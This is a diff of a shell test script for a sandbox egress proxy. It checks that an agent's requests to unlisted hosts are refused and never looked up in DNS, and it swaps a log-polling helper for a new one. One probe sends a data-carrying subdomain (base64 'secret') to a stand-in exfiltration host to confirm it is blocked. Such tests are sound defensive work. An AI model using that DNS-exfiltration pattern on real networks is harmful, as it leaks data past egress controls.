@@ -15,15 +15,6 @@ AG=(as_user "$AGENT")
 PX=(-x http://127.0.0.1:3128)
 via_proxy() { "${AG[@]}" curl -sS --max-time 5 "${PX[@]}" "$@"; }
 status_via_proxy() { "${AG[@]}" curl -s -o /dev/null -w '%{http_code}' --max-time 5 "${PX[@]}" "$@"; }
-# in_dns_log NAME: 0 when the fake resolver was asked for NAME within 3 seconds
-in_dns_log() {
-	local i
-	for i in $(seq 30); do
-		grep -q -- " $1\$" "$INET_DNS_LOG" 2>/dev/null && return 0
-		sleep 0.1
-	done
-	return 1
-}
 no_note() { # provisioning succeeds and prints no note on the policy
 	local out
 	out=$(provision 2>&1) || { echo "$out"; return 1; }
@@ -77,7 +68,7 @@ sum=$(sha256sum <"$CONF")
 
 # --- the proxy under the written rules
 check "positive control: root asks the fake resolver" dns_ask control-probe.example
-check "positive control: the query is in the log" in_dns_log control-probe.example
+check "positive control: the query is in the log" inet_dns_asked control-probe.example
 check_output "agent: the detected registry passes" '^WEB allowed\.test$' via_proxy http://registry.npmjs.org/
 check_output "agent: the provider passes" '^WEB other\.test$' via_proxy http://api.anthropic.com/
 check_output "agent: the remote's git host passes" '^WEB internal\.test$' via_proxy http://code.example.org/
@@ -87,9 +78,9 @@ check_output "agent: a name carrying data is refused" '^403$' \
 	status_via_proxy "http://c2VjcmV0.x-dns-exfil-$$.example.net/"
 check_output "agent: CONNECT to the registry passes (control)" '^200$' connect_status registry.npmjs.org
 check_output "agent: CONNECT to an unknown host is refused" '^403$' connect_status tunnel-$$.example.net
-check_fails "no DNS query for the unknown host" in_dns_log "exfil-$$.example.net"
-check_fails "none for the name carrying data" in_dns_log "c2VjcmV0.x-dns-exfil-$$.example.net"
-check_fails "none for the CONNECT target" in_dns_log "tunnel-$$.example.net"
+check_fails "no DNS query for the unknown host" inet_dns_asked "exfil-$$.example.net"
+check_fails "none for the name carrying data" inet_dns_asked "c2VjcmV0.x-dns-exfil-$$.example.net"
+check_fails "none for the CONNECT target" inet_dns_asked "tunnel-$$.example.net"
 check_output "ocsb egress logs names the policy" "DENY .*exfil-$$\.example\.net.*policy" \
 	"$OCSB_BUILD/ocsb" egress logs
 
@@ -102,9 +93,9 @@ check_output "the owner's edit is kept" "^$sum_b\$" bash -c "sha256sum <$CONF"
 check_output "blocklist: an unlisted host passes" '^WEB other\.test$' via_proxy http://other.test/
 check "blocklist: an unknown name is asked for (control)" leak_probe
 check "blocklist: the query for it reaches the resolver (the log sees squid's lookups)" \
-	in_dns_log "leak-$$.example.net"
+	inet_dns_asked "leak-$$.example.net"
 sed -i 's/^policy blocklist$/policy allowlist/' "$CONF"
 check_output "back to the allowlist" '^ocsb-provision: ' provision
 check_output "the file is as first written" "^$sum\$" bash -c "sha256sum <$CONF"
 check_output "agent: the unknown host is refused again" '^403$' status_via_proxy "http://again-$$.example.net/"
-check_fails "and not looked up" in_dns_log "again-$$.example.net"
+check_fails "and not looked up" inet_dns_asked "again-$$.example.net"
